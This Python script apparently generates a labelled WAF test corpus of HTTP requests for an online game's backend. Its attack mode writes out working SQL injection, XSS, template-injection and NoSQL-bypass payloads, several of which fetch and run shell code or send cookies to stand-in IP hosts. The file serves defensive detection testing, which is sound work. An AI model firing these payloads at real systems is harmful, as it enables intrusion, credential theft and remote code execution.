#!/usr/bin/env python3
"""Held-out request corpus: online game backends and their communities.

What it is
    A deterministic generator of labelled HTTP requests (JSON lines, the shape
    described in /work/shared/corpora/README.md) for the traffic of an online
    game's backend and the community sites around it.  One mode writes attacks
    (``expect: detect``), the other legitimate traffic (``expect: pass``), of
    which roughly 15 % is ``dev-content``: players, modders and server admins
    whose ordinary content is itself code, SQL, console commands, shaders,
    markup or templates.

Applications
    Player login / profile APIs (JSON), leaderboards and match history with
    filter and sort parameters, in-game chat and guild forums (slang,
    leetspeak, emoticons such as ``<3`` ``>_<`` ``:-)`` and the inevitable
    ``'; DROP TABLE`` jokes), the in-game store and virtual currency,
    mod/workshop uploads (multipart zip, Lua, JSON manifests, images),
    replay and telemetry uploads (base64, protobuf-as-JSON), anti-cheat
    reports, matchmaking (region/ping), esports tournament brackets,
    streaming overlays and Twitch/Discord-style webhooks, dedicated-server
    browser and RCON-style admin panels over HTTP, and a game wiki (wikitext
    with ``{{Infobox|...}}`` templates, ``{| |}`` tables, ``[[links]]``).
    Attacks are the OWASP classes delivered through those carriers: SQL
    injection in leaderboard sort/filter and player search, stored XSS in
    chat, bios and guild descriptions, SSTI in emote/notification templates,
    command injection in RCON panels (server name, map, ``sv_`` cvars), path
    traversal in mod/replay downloads and zip-slip entry names, SSRF in
    avatar-from-URL and webhook URLs, Log4Shell in chat and player names,
    deserialisation in save-game uploads, NoSQL operators in login JSON,
    prototype pollution, LDAP/CRLF injection, smuggling-style protocol abuse
    and scanners probing admin panels.

Modes
    ``attacks``  every request is a real attack or hostile probe
                 (categories sqli, xss, lfi, rfi, rce, php, java, ssrf, xxe,
                 ssti, nosqli, ldapi, crlf, protocol, scanner, generic).
    ``benign``   legitimate requests of the same applications
                 (categories ``benign`` and ``dev-content``).

Written blind
    Written without reading Palisade's rules, tests, test data, proxy code or
    any other corpus generator, and without running the WAF.  Payloads come
    from general knowledge of real game traffic and of published attack
    techniques, aimed at attack classes rather than at any WAF's signatures.
    Hosts are example names or documentation addresses, except internal
    addresses that are themselves the payload (metadata, loopback, RFC 1918).

Run
    python3 scripts/corpus-gaming.py attacks > rulesets/tests/data/gaming-attacks.jsonl
    python3 scripts/corpus-gaming.py benign  > rulesets/tests/data/gaming-benign.jsonl
"""

import base64
import json
import random
import sys
from urllib.parse import quote, quote_plus

SET = "gaming"
SEED = 0x6A3E5


# ---------------------------------------------------------------- helpers


def enc(s, plus=False):
    """Percent-encode one query/form value like a browser or fetch() would."""
    return quote_plus(s, safe="") if plus else quote(s, safe="")


def qs(pairs, plus=True):
    """Build a query string from (name, value) pairs; names keep [] readable."""
    out = []
    for k, v in pairs:
        out.append(quote(k, safe="[]$.") + "=" + enc(str(v), plus))
    return "&".join(out)


def form(pairs):
    return qs(pairs, plus=True)


def js(obj):
    return json.dumps(obj, ensure_ascii=False, separators=(",", ":"))


UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36 Edg/124.0.2478.67",
]

UA_GAME = [
    "UnityPlayer/2022.3.21f1 (UnityWebRequest/1.0, libcurl/8.5.0-DEV)",
    "UnrealEngine-CL-29314046 (Windows 10.0.19045.1.256.64bit)",
    "EmberRealms/1.42.7 (Windows; x64; Steam)",
    "EmberRealms/1.42.7 (PS5; 8.20)",
    "EmberRealms/1.42.6 (Android 14; arm64-v8a)",
    "Valve/Steam HTTP Client 1.0 (730)",
    "Java/17.0.10",
    "godot/4.2.1.stable (Linux)",
]

UA_TOOLS = [
    "python-requests/2.31.0",
    "curl/8.5.0",
    "axios/1.6.8",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Go-http-client/1.1",
    "okhttp/4.12.0",
]

LANGS = ["en-US,en;q=0.9", "de-DE,de;q=0.9,en;q=0.8", "pt-BR,pt;q=0.9,en;q=0.7",
         "es-ES,es;q=0.9", "fr-FR,fr;q=0.9,en;q=0.6", "pl-PL,pl;q=0.9,en;q=0.8",
         "ko-KR,ko;q=0.9,en;q=0.5", "en-GB,en;q=0.9"]


class Gen:
    """Accumulates rows; one instance per mode, each with its own RNG."""

    def __init__(self, kind):
        self.kind = kind
        self.rng = random.Random(f"{SEED}-{kind}")
        self.rows = []
        self.counters = {}

    # -- randomness ------------------------------------------------------
    def pick(self, seq):
        return seq[self.rng.randrange(len(seq))]

    def hexs(self, n):
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

    def alnum(self, n):
        return "".join(self.rng.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789")
                       for _ in range(n))

    def num(self, a, b):
        return self.rng.randint(a, b)

    def jwt(self):
        head = "eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9"
        body = base64.urlsafe_b64encode(js({"sub": str(self.num(10**7, 10**8)), "iat": 1717000000 + self.num(0, 10**6),
                                             "scope": "player"}).encode()).decode().rstrip("=")
        return f"{head}.{body}.{self.alnum(43)}"

    def session_cookie(self):
        return f"sid={self.alnum(32)}; region=eu; _ga=GA1.2.{self.num(10**8, 10**9)}.{self.num(1690000000, 1717000000)}"

    # -- headers ---------------------------------------------------------
    def browser(self, host, accept="html", referer=None, cookie=True, ctype=None, extra=None):
        h = [["Host", host], ["User-Agent", self.pick(UA_BROWSERS)]]
        if accept == "html":
            h.append(["Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"])
        elif accept == "json":
            h.append(["Accept", "application/json, text/plain, */*"])
        else:
            h.append(["Accept", accept])
        h.append(["Accept-Language", self.pick(LANGS)])
        h.append(["Accept-Encoding", "gzip, deflate, br"])
        if referer:
            h.append(["Referer", referer])
        if ctype:
            h.append(["Content-Type", ctype])
            h.append(["Origin", "https://" + host])
        if cookie:
            h.append(["Cookie", cookie if isinstance(cookie, str) else self.session_cookie()])
        for e in extra or []:
            h.append(list(e))
        return h

    def api(self, host, ctype=None, token=True, ua=None, extra=None, accept="application/json"):
        h = [["Host", host], ["User-Agent", ua or self.pick(UA_GAME)], ["Accept", accept]]
        if token:
            h.append(["Authorization", "Bearer " + self.jwt()])
        if ctype:
            h.append(["Content-Type", ctype])
        h.append(["X-Client-Version", self.pick(["1.42.7", "1.42.6", "1.43.0-beta.2"])])
        h.append(["X-Request-Id", f"{self.hexs(8)}-{self.hexs(4)}-4{self.hexs(3)}-a{self.hexs(3)}-{self.hexs(12)}"])
        for e in extra or []:
            h.append(list(e))
        return h

    def tool(self, host, ua, ctype=None, extra=None, accept="*/*"):
        h = [["Host", host], ["User-Agent", ua], ["Accept", accept]]
        if ctype:
            h.append(["Content-Type", ctype])
        for e in extra or []:
            h.append(list(e))
        return h

    def multipart(self, parts):
        """parts: (name, filename|None, content_type|None, content). Returns (ctype, body)."""
        boundary = "----WebKitFormBoundary" + self.alnum(16)
        lines = []
        for name, filename, ctype, content in parts:
            lines.append("--" + boundary)
            disp = f'Content-Disposition: form-data; name="{name}"'
            if filename is not None:
                disp += f'; filename="{filename}"'
            lines.append(disp)
            if ctype:
                lines.append("Content-Type: " + ctype)
            lines.append("")
            lines.append(content)
        lines.append("--" + boundary + "--")
        lines.append("")
        return "multipart/form-data; boundary=" + boundary, "\r\n".join(lines)

    # -- rows ------------------------------------------------------------
    def add(self, slug, category, method, uri, headers, body=None):
        n = self.counters.get(slug, 0) + 1
        self.counters[slug] = n
        row = {
            "id": f"{SET}/{self.kind}/{slug}-{n:03d}",
            "set": SET,
            "category": category,
            "expect": "detect" if self.kind == "attacks" else "pass",
            "method": method,
            "uri": uri,
            "version": "HTTP/1.1",
            "headers": headers,
        }
        if body is not None:
            row["body"] = body
        self.rows.append(row)


H_API = "api.example.com"
H_PLAY = "play.example.com"
H_FORUM = "forums.example.net"
H_WIKI = "wiki.example.org"
H_STORE = "store.example.com"
H_MODS = "mods.example.net"
H_RCON = "rcon.example.net"
H_ESPORTS = "esports.example.org"
H_STATS = "stats.example.com"
H_TELE = "telemetry.example.com"
H_HOOKS = "hooks.example.com"
H_SERVERS = "servers.example.net"
H_CDN = "cdn.example.com"

PLAYERS = ["xXSn1p3rXx", "NoobMaster69", "K4ti_Frost", "lunar_owl", "DrDisrespectFan", "Ghost0fKyiv",
           "M1ll3rTime", "sk8rboi_07", "tiltproof", "Pog_Champ", "saltyxD", "elf_on_a_shelf",
           "Zer0Cool", "shroomie", "FragLord9000", "camperjoe", "rngesus", "Wumpus", "bean_counter",
           "Ørjan_GG", "Kuroneko", "João_mid", "ValkyrieV", "tank_mom"]
REGIONS = ["eu-west", "eu-central", "us-east", "us-west", "sa-east", "ap-southeast", "ap-northeast", "me-south"]
MAPS = ["de_dust2", "de_inferno", "de_mirage", "cp_badlands", "ctf_2fort", "dm_lockdown", "ar_shoots",
        "koth_harvest", "pl_upward", "gm_construct"]
MODES = ["ranked", "casual", "duos", "squads", "arena", "battle-royale", "deathmatch"]


# ================================================================ attacks


def a_sqli(g):
    cat = "sqli"
    # leaderboard sort / order parameters (ORDER BY context)
    sorts = [
        ("score", "(CASE WHEN (SELECT SUBSTRING(password_hash,1,1) FROM accounts WHERE username='admin')='$' THEN score ELSE kills END)"),
        ("score", "score desc;SELECT pg_sleep(10)--"),
        ("order", "desc,(SELECT 1 FROM (SELECT SLEEP(6))a)"),
        ("sort", "IF(ASCII(SUBSTR((SELECT password FROM admins LIMIT 0,1),1,1))>64,SLEEP(5),kills)"),
        ("sort", "extractvalue(1,concat(0x7e,(SELECT version()),0x7e))"),
        ("sort", "updatexml(null,concat(0x3a,(SELECT user())),null)"),
        ("sort", "1,(select case when (1=1) then 1 else 1*(select table_name from information_schema.tables) end)=1"),
        ("orderBy", "rating ASC, (SELECT CAST(string_agg(email,',') AS int) FROM players)"),
    ]
    for p, payload in sorts:
        q = [("season", str(g.num(8, 14))), ("mode", g.pick(MODES))]
        if p == "order":
            q += [("sort", "score"), ("order", payload)]
        elif p == "score":
            q += [("sort", payload), ("order", "desc")]
        else:
            q += [(p, payload), ("limit", "50")]
        g.add("leaderboard-sort", cat, "GET", "/v2/leaderboards/global?" + qs(q, plus=g.rng.random() < 0.5),
              g.browser(H_STATS, accept="json", referer=f"https://{H_STATS}/leaderboards"))
    # leaderboard / match history filters
    filters = [
        ("region", "eu-west' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
        ("season", "12 UNION ALL SELECT NULL,NULL,CONCAT(username,0x3a,email),NULL,NULL FROM players-- -"),
        ("mode", "ranked' OR '1'='1' -- "),
        ("offset", "0;WAITFOR DELAY '0:0:7'--"),
        ("limit", "10 PROCEDURE ANALYSE(EXTRACTVALUE(5151,CONCAT(0x5c,(SELECT database()))),1)"),
        ("hero", "Reaper') UNION SELECT table_schema,table_name,3,4 FROM information_schema.tables#"),
        ("player_id", "88412 AND 7731=(SELECT 7731 FROM PG_SLEEP(5))"),
        ("since", "2024-05-01' AND (SELECT 2144 FROM(SELECT COUNT(*),CONCAT(0x7176627071,(SELECT (ELT(2144=2144,1))),0x71786b7171,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)-- jTkq"),
        ("map", "de_dust2'||(SELECT CHR(113)||CHR(106) FROM DUAL WHERE 4412=4412 AND 1=UTL_INADDR.GET_HOST_ADDRESS('x.oast.example.com'))||'"),
        ("queue", "5 AND 1=1 UNION SELECT sql,2,3 FROM sqlite_master--"),
    ]
    for p, payload in filters:
        path = g.pick(["/v2/matches/history", "/v2/leaderboards/ranked", "/api/stats/heroes"])
        q = [("page", "1"), (p, payload)]
        g.add("stats-filter", cat, "GET", path + "?" + qs(q), g.api(H_STATS))
    # player-name search
    names = [
        "admin'--",
        "' UNION SELECT id,username,password_hash,email,NULL FROM accounts--",
        "%' AND SLEEP(5) AND '%'='",
        "x' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- -",
        "1' ORDER BY 12-- -",
        "' UNION SELECT sql,NULL FROM sqlite_master--",
        "Zer0Cool';COPY (SELECT '') TO PROGRAM 'curl 198.51.100.7/x|sh'--",
        "'; EXEC master..xp_cmdshell 'whoami'--",
        "' uNiOn/**/sElEcT/**/1,2,group_concat(username,0x3a,password),4/**/fRoM/**/users#",
        "lunar' AND ASCII(SUBSTRING((SELECT password FROM users WHERE id=1),1,1))>100 AND 'a'='a",
        "a\\' OR 1=1-- -",
        "' AND 0 UNION SELECT 1,LOAD_FILE('/etc/passwd'),3-- -",
    ]
    for i, n in enumerate(names):
        if i % 3 == 0:
            g.add("player-search", cat, "GET", "/api/players/search?" + qs([("q", n), ("platform", "all")]),
                  g.browser(H_PLAY, accept="json", referer=f"https://{H_PLAY}/friends"))
        elif i % 3 == 1:
            g.add("player-search", cat, "POST", "/api/friends/lookup",
                  g.api(H_API, ctype="application/json"), js({"displayName": n, "exact": False}))
        else:
            g.add("player-search", cat, "GET", "/profile/" + enc(n) + "/overview",
                  g.browser(H_PLAY, referer=f"https://{H_PLAY}/"))
    # login JSON
    for user in ["admin' -- ", "' OR 1=1 LIMIT 1 -- -", "gm_support'/*", "\") OR (\"1\"=\"1"]:
        g.add("login", cat, "POST", "/v1/auth/login", g.api(H_API, ctype="application/json", token=False),
              js({"username": user, "password": "hunter2", "platform": "pc"}))
    # cookies and headers
    g.add("cookie", cat, "GET", "/v1/me/inventory", g.browser(H_PLAY, accept="json",
          cookie=f"sid={g.alnum(32)}; player_id=4471' AND '1'='1; region=eu"))
    g.add("cookie", cat, "GET", "/store/", g.browser(H_STORE,
          cookie=f"currency=USD' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- -; sid={g.alnum(32)}"))
    g.add("header", cat, "GET", "/v1/news?lang=en", g.browser(H_PLAY, accept="json",
          extra=[["X-Forwarded-For", "127.0.0.1' AND SLEEP(5)-- -"]]))
    g.add("header", cat, "POST", "/v1/telemetry/session", g.api(H_TELE, ctype="application/json",
          ua="EmberRealms/1.42.7' AND (SELECT 4521 FROM (SELECT(SLEEP(5)))xYz)-- bNaQ"),
          js({"event": "session_start", "build": "1.42.7"}))
    # store / purchases
    g.add("store", cat, "GET", "/api/store/items?" + qs([("category", "skins"),
          ("price_max", "1500 UNION SELECT card_number,cvv,expiry,NULL FROM payment_methods--")]),
          g.browser(H_STORE, accept="json"))
    g.add("store", cat, "POST", "/api/store/purchase", g.api(H_STORE, ctype="application/json"),
          js({"itemId": "1001 OR 1=1", "currency": "gems", "quantity": 1}))
    g.add("store", cat, "POST", "/api/wallet/redeem", g.browser(H_STORE, accept="json",
          ctype="application/x-www-form-urlencoded"),
          form([("code", "XMAS-2024'; UPDATE wallets SET gems=999999 WHERE player_id=88412;--"), ("csrf", g.alnum(24))]))
    # tournaments / guilds
    g.add("bracket", cat, "GET", "/api/tournaments/brackets?" + qs([("bracket_id",
          "1/**/UNION/**/SELECT/**/1,team_name,captain_email,invite_code/**/FROM/**/teams")], plus=False),
          g.browser(H_ESPORTS, accept="json"))
    g.add("bracket", cat, "GET", "/api/tournaments/42/matches/" + enc("7 AND 1=2 UNION SELECT 1,2,3,user(),5") ,
          g.browser(H_ESPORTS, accept="json"))
    g.add("guild", cat, "POST", "/guilds/search", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
          form([("tag", "GG'||(SELECT pg_sleep(5))||'"), ("min_members", "5")]))
    g.add("guild", cat, "POST", "/graphql", g.api(H_API, ctype="application/json"),
          js({"query": "query($n:String!){ guild(name:$n){ id members { name } } }",
              "variables": {"n": "x' UNION SELECT password_hash FROM accounts WHERE role='admin'--"}}))
    g.add("guild", cat, "GET", "/api/guilds?" + qs([("sort", "members"),
          ("id", "(SELECT CHAR(113,120,118,106,113)+(SELECT (CASE WHEN (8123=8123) THEN CHAR(49) ELSE CHAR(48) END))+CHAR(113,107,122,112,113))")]),
          g.tool(H_FORUM, "sqlmap/1.8.3#stable (https://sqlmap.org)", accept="*/*"))
    g.add("guild", cat, "GET", "/api/guilds/" + enc("17) AND 5523=(SELECT 5523 FROM PG_SLEEP(5)) AND (9918=9918"),
          g.tool(H_FORUM, "sqlmap/1.8.3#stable (https://sqlmap.org)"))


XSS_PAYLOADS = [
    "<script>fetch('https://198.51.100.14/c?'+document.cookie)</script>",
    "<img src=x onerror=alert(document.domain)>",
    "<svg/onload=eval(atob('ZmV0Y2goJy8vMjAzLjAuMTEzLjUvJytkb2N1bWVudC5jb29raWUp'))>",
    "\"><script src=//203.0.113.50/h.js></script>",
    "<iframe srcdoc=\"<script>parent.location='//198.51.100.2/?'+document.cookie</script>\"></iframe>",
    "<details open ontoggle=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<a href=\"javascript:alert(localStorage.getItem('token'))\">free skins here</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(document.cookie)>",
    "<video><source onerror=\"javascript:alert(1)\"></video>",
    "</script><script>alert(1)</script>",
    "<img src=\"x\" onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;\">",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    "<marquee onstart=alert(1)>gg ez</marquee>",
    "<x onclick=alert(1)>click me for drops",
    "<form action=javascript:alert(1)><input type=submit value=claim></form>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
    "<img src=x:x onerror=window['al'+'ert'](1)>",
    "<svg><script href=data:,alert(1) />",
    "'-alert(document.cookie)-'",
    "{{constructor.constructor('fetch(\"//203.0.113.7/\"+document.cookie)')()}}",
    "<base href=\"//203.0.113.9/\">",
    "<div style=\"width:1000px;height:1000px\" onmouseover=\"new Image().src='//198.51.100.20/?c='+document.cookie\">afk</div>",
    "<embed src=\"javascript:alert(1)\">",
    "<sVg OnLoAd=confirm`1`>",
]


def a_xss(g):
    cat = "xss"
    P = XSS_PAYLOADS
    i = 0
    # chat messages (JSON, game client)
    for p in P[0:6]:
        g.add("chat", cat, "POST", f"/v1/chat/channels/{g.pick(['global', 'trade', 'guild-7731', 'lfg-eu'])}/messages",
              g.api(H_API, ctype="application/json"), js({"text": "gg " + p, "clientMsgId": g.hexs(16)}))
    # player bio / profile
    for p in P[6:11]:
        g.add("bio", cat, "PATCH", "/v1/me/profile", g.browser(H_PLAY, accept="json", ctype="application/json",
              referer=f"https://{H_PLAY}/settings/profile"), js({"bio": p, "pronouns": "", "country": "DE"}))
    # guild descriptions (forum form)
    for p in P[11:16]:
        g.add("guild-desc", cat, "POST", f"/guilds/{g.num(100, 9999)}/edit", g.browser(H_FORUM,
              ctype="application/x-www-form-urlencoded", referer=f"https://{H_FORUM}/guilds"),
              form([("name", "Night Owls"), ("motto", "we never sleep"), ("description", p), ("_token", g.alnum(40))]))
    # forum posts
    for p in P[16:20]:
        g.add("forum-post", cat, "POST", "/threads/reply", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
              form([("thread_id", str(g.num(10000, 99999))), ("message", "pls nerf this " + p), ("_xfToken", g.alnum(32))]))
    # reflected in search / profile query
    for p in P[20:24]:
        g.add("reflected", cat, "GET", "/search?" + qs([("q", p), ("type", "players")]),
              g.browser(H_PLAY, referer=f"https://{H_PLAY}/"))
    # tournament team name, overlay, wiki
    g.add("team-name", cat, "POST", "/api/tournaments/91/teams", g.browser(H_ESPORTS, accept="json",
          ctype="application/json"), js({"name": P[24], "tag": "OWL", "roster": ["lunar_owl", "tank_mom"]}))
    g.add("overlay", cat, "GET", "/overlay/alerts?" + qs([("channel", "shroomie"), ("msg", P[25])]),
          g.browser(H_HOOKS, accept="*/*"))
    g.add("wiki", cat, "POST", "/index.php?title=Frostbite_Blade&action=submit", g.browser(H_WIKI,
          ctype="application/x-www-form-urlencoded"),
          form([("wpTextbox1", "{{Infobox weapon|name=Frostbite Blade}}\n" + P[26] + "\n== Obtaining =="),
                ("wpSummary", "typo"), ("wpEditToken", g.hexs(32) + "+\\")]))
    g.add("wiki", cat, "POST", "/api.php", g.browser(H_WIKI, accept="json", ctype="application/x-www-form-urlencoded"),
          form([("action", "edit"), ("title", "User:Zer0Cool"), ("text", P[27]), ("format", "json"), ("token", g.hexs(32) + "+\\")]))
    # markdown / link fields
    g.add("link", cat, "PATCH", "/v1/me/profile", g.api(H_API, ctype="application/json"),
          js({"socials": {"twitch": "javascript:fetch('//x.oast.example.com/'+document.cookie)"}}))
    g.add("link", cat, "POST", "/threads/new", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
          form([("title", "FREE SKINS"), ("message", "[click for free skins](javascript:alert(document.cookie))"),
                ("_xfToken", g.alnum(32))]))
    g.add("link", cat, "POST", "/threads/new", g.browser(H_FORUM, ctype="application/x-www-form-urlencoded"),
          form([("title", "patch notes"), ("message", "[url=javascript:eval(atob('YWxlcnQoMSk='))]patch 1.43 notes[/url]"),
                ("_xfToken", g.alnum(32))]))
    # JSON unicode escapes (raw body, as some clients serialise)
    raw = '{"text":"\\u003cimg src=x onerror=\\u0022alert(document.cookie)\\u0022\\u003e","channel":"global"}'
    g.add("chat-escaped", cat, "POST", "/v1/chat/send", g.api(H_API, ctype="application/json"), raw)
    raw = '{"motd":"Welcome \\u003cscript\\u003edocument.location=\\u0027//203.0.113.66/?\\u0027+document.cookie\\u003c/script\\u003e"}'
    g.add("chat-escaped", cat, "PUT", "/v1/guilds/7731/motd", g.api(H_API, ctype="application/json"), raw)
    # double-encoded reflected param
    g.add("reflected", cat, "GET", "/match/summary?player=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
          g.browser(H_STATS))
    g.add("reflected", cat, "GET", "/api/news/search?callback=" + enc("alert(document.domain)//") + "&q=patch",
          g.browser(H_PLAY, accept="*/*"))
    # discord-style webhook embed
    g.add("webhook-embed", cat, "POST", "/api/integrations/discord/relay", g.api(H_HOOKS, ctype="application/json",
          ua=g.pick(UA_TOOLS)), js({"embeds": [{"title": "<img src=x onerror=alert(1)>", "description": "match found"}]}))
    # SVG avatar and malicious filename
    ct, body = g.multipart([("avatar", "avatar.svg", "image/svg+xml",
        '<?xml version="1.0" standalone="no"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64">'
        '<rect width="64" height="64" fill="#f0f"/><script type="text/javascript">alert(document.domain)</script></svg>')])
    g.add("avatar-svg", cat, "POST", "/v1/me/avatar", g.browser(H_PLAY, accept="json", ctype=ct), body)
    ct, body = g.multipart([("title", None, None, "Better HUD"),
                            ("file", "<img src=x onerror=alert(document.cookie)>.zip", "application/zip", "PK\x03\x04\x14\x00\x00\x00")])
    g.add("mod-filename", cat, "POST", "/workshop/upload", g.browser(H_MODS, ctype=ct), body)
    g.add("stream-title", cat, "POST", "/api/overlay/scenes/4/text", g.api(H_HOOKS, ctype="application/json", ua=UA_BROWSERS[0]),
          js({"layer": "ticker", "content": "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>"}))
    g.add("cookie", cat, "GET", "/lobby", g.browser(H_PLAY,
          cookie=f"sid={g.alnum(32)}; last_name=\"><svg onload=alert(1)>; theme=dark"))
    g.add("header", cat, "GET", "/stats/player/88412", g.browser(H_STATS,
          referer="https://www.example.org/\"><script>alert(document.cookie)</script>"))


SSTI_PAYLOADS = [
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('cat /etc/passwd').read() }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{ request.application.__globals__.__builtins__.__import__('os').popen('whoami').read() }}",
    "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c.__init__.__globals__['__builtins__'].eval(\"__import__('os').popen('id').read()\") }}{% endif %}{% endfor %}",
    "{{ config.items() }}",
    "{{ lipsum.__globals__[\"os\"].popen(\"curl -s http://198.51.100.31/p|sh\").read() }}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fbuiltins\\x5f\\x5f')}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}",
    "{{['cat /etc/passwd']|filter('system')}}",
    "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}",
    "#set($rt=$class.forName('java.lang.Runtime'))#set($p=$rt.getRuntime().exec('id'))$p.waitFor()",
    "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
    "${T(java.lang.Runtime).getRuntime().exec('curl 198.51.100.3/s.sh -o /tmp/s')}",
    "<%= `id` %>",
    "<%= File.open('/etc/passwd').read %>",
    "{system('id')}",
    "{php}echo shell_exec('id');{/php}",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}",
    "${self.module.cache.util.os.system(\"id\")}",
    "{% import os %}{{ os.popen(\"id\").read() }}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\").exec('id')}()}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")",
    "${{<%[%'\"}}%\\.",
    "{{ ''.__class__.__base__.__subclasses__()[132].__init__.__globals__['popen']('ls /').read() }}",
]


def a_ssti(g):
    cat = "ssti"
    P = SSTI_PAYLOADS
    for i, p in enumerate(P):
        k = i % 6
        if k == 0:
            g.add("emote-template", cat, "POST", "/v1/emotes/custom", g.api(H_API, ctype="application/json"),
                  js({"code": "owlHype", "template": p, "animated": False}))
        elif k == 1:
            g.add("notify-template", cat, "PUT", "/api/overlay/alerts/follow", g.browser(H_HOOKS, accept="json",
                  ctype="application/json", referer=f"https://{H_HOOKS}/dashboard"),
                  js({"enabled": True, "message": "Thanks for the follow " + p, "duration": 6}))
        elif k == 2:
            g.add("preview", cat, "GET", "/api/overlay/preview?" + qs([("tpl", p), ("user", "shroomie")]),
                  g.browser(H_HOOKS, accept="json"))
        elif k == 3:
            g.add("guild-motd", cat, "POST", f"/guilds/{g.num(100, 9999)}/settings", g.browser(H_FORUM,
                  ctype="application/x-www-form-urlencoded"), form([("welcome_message", p), ("_token", g.alnum(40))]))
        elif k == 4:
            g.add("invite-email", cat, "POST", "/api/tournaments/91/invites", g.api(H_ESPORTS, ctype="application/json",
                  ua=UA_BROWSERS[1]), js({"to": "captain@example.org", "subject": "Invite", "body": p}))
        else:
            g.add("display-name", cat, "PATCH", "/v1/me", g.api(H_API, ctype="application/json"),
                  js({"displayName": p}))


def a_nosqli(g):
    cat = "nosqli"
    logins = [
        {"username": "admin", "password": {"$ne": None}},
        {"username": {"$gt": ""}, "password": {"$gt": ""}},
        {"username": "admin", "password": {"$regex": "^a"}},
        {"username": {"$in": ["admin", "root", "gm"]}, "password": {"$exists": True}},
        {"username": "gm_support", "password": {"$not": {"$eq": "x"}}},
        {"email": "ops@example.com", "password": {"$nin": [""]}},
        {"$where": "this.password.match(/^p.*/) != null", "username": "admin"},
    ]
    for body in logins:
        g.add("login-json", cat, "POST", g.pick(["/v1/auth/login", "/api/session"]),
              g.api(H_API, ctype="application/json", token=False), js(body))
    g.add("login-form", cat, "POST", "/login", g.browser(H_PLAY, ctype="application/x-www-form-urlencoded"),
          "username%5B%24ne%5D=toto&password%5B%24ne%5D=toto&remember=1")
    g.add("login-form", cat, "POST", "/login", g.browser(H_PLAY, ctype="application/x-www-form-urlencoded"),
          "username=admin&password%5B%24regex%5D=%5Ep4&remember=1")
    g.add("login-form", cat, "POST", "/login", g.browser(H_PLAY, ctype="application/x-www-form-urlencoded"),
          "username[$exists]=true&password[$gt]=")
    g.add("reset", cat, "POST", "/v1/auth/password-reset/confirm", g.api(H_API, ctype="application/json", token=False),
          js({"email": "lunar_owl@example.com", "token": {"$ne": ""}, "newPassword": "Pwn3d!2024"}))
    g.add("query", cat, "GET", "/api/players?" + qs([("filter", '{"$where":"sleep(5000)||true"}')]),
          g.api(H_STATS))
    g.add("query", cat, "GET", "/api/players?name%5B%24regex%5D=.%2A&email%5B%24ne%5D=null", g.api(H_STATS))
    g.add("query", cat, "GET", "/api/players/lookup?" + qs([("name", "admin'; return true; var foo='")]),
          g.api(H_STATS))
